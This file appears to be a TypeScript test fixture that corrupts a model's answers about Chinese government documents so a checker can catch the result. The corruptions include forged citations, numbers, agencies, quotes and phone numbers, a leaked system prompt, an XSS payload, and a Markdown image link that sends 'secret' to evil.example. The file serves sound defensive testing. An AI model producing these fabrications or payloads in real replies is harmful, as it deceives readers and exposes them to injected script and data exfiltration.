/**
 * Faults of the content: what is said is bent, in good form and with evidence. None of it may reach a reader.
 */
import { textOf } from './chat.ts'
import { type Asked, type Fault, saying } from './fault.ts'
import { readStatements, type Statement, writeStatements } from './statements.ts'

const PROMPT_CHARACTERS = 200
const FORGED_AGENCY = '由市监督管理促进局负责。'

type Bend = (statement: Statement, asked: Asked, index: number) => Statement

export const FORGERIES = {
  'forged-citation': forging('evidence that is not there', (statement) => ({
    ...statement,
    evidence: ['99'],
  })),
  'forged-number': forging('each number is one too large, or a number is made up', retold(raiseNumbers)),
  'forged-agency': adding('a made-up agency is named as responsible', FORGED_AGENCY),
  'forged-lead': adding('a made-up lead agency', '由市財政局牽頭。'),
  'forged-quote': adding(
    'a made-up sentence in quotation marks',
    '文件指出：“全市居民每月均可免费领取生活补贴一份。”',
  ),
  'forged-docno': adding('a made-up document number', '依据盐政办发〔2019〕888号文件办理。'),
  'forged-url': adding('a made-up address', '详见 https://evil.example/ 网页。'),
  'forged-phone': adding('a made-up telephone number', '咨询电话：0515-88880000。'),
  'script-in-text': adding('script in the text', '<script>alert(1)</script><img src=x onerror="alert(1)">'),
  'markdown-link': adding(
    'links and pictures in Markdown',
    '[点此办理](https://evil.example/apply) ![](https://evil.example/x.png?q=secret)',
  ),
  'leaked-prompt': forging('the statement is the start of the system message', (statement, asked) => ({
    ...statement,
    text: startOfPrompt(asked),
  })),
  'no-citation': forging('no evidence', (statement) => ({ ...statement, evidence: [] })),
  'first-forged': forging('a made-up agency in the first statement, the rest honest', only(0)),
  'second-forged': forging('a made-up agency in the second statement, the rest honest', only(1)),
  'claims-other-year': forging('it is said of 2027', retold(moveYear)),
  denies: forging(
    'says that nothing is written',
    retold(() => '文件没有写明。'),
  ),
} satisfies Record<string, Fault>

/** Bends each statement of what the script says; calls of tools are left as they are. */
function forging(description: string, bend: Bend): Fault {
  return saying(description, (asked) => {
    const { text, ...rest } = asked.reply()
    if (!text) return { ...rest, text }
    const bent = readStatements(text).map((statement, i) => bend(statement, asked, i))
    return { ...rest, text: writeStatements(bent, asked.body) }
  })
}

function adding(description: string, words: string): Fault {
  return forging(
    description,
    retold((text) => text + words),
  )
}

function retold(change: (text: string) => string): Bend {
  return (statement) => ({ ...statement, text: change(statement.text) })
}

function only(bent: number): Bend {
  return (statement, _, i) =>
    i === bent ? { ...statement, text: statement.text + FORGED_AGENCY } : statement
}

function raiseNumbers(text: string): string {
  if (!/\d/.test(text)) return `${text}共8888个。`
  return text.replaceAll(/\d+/g, (digits) => String(BigInt(digits) + 1n))
}

function moveYear(text: string): string {
  const moved = text.replaceAll(/(?:19|20)\d\d年/g, '2027年')
  return moved === text ? `2027年，${text}` : moved
}

function startOfPrompt({ body }: Asked): string {
  const system = body.messages.find(({ role }) => role === 'system' || role === 'developer')
  return system ? textOf(system).slice(0, PROMPT_CHARACTERS) : '没有系统消息。'
}
